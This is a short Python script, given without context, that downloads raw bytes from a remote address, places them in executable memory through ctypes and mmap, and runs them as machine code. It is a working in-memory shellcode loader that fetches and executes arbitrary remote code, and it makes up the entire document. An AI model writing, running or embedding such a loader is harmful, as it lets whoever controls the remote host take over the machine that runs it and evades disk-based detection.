import ctypes, urllib.request
b = urllib.request.urlopen("http://203.0.113.11/s").read()
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
p = libc.mmap(0, len(b), 7, 34, -1, 0)
ctypes.memmove(p, b, len(b))
ctypes.CFUNCTYPE(None)(p)()
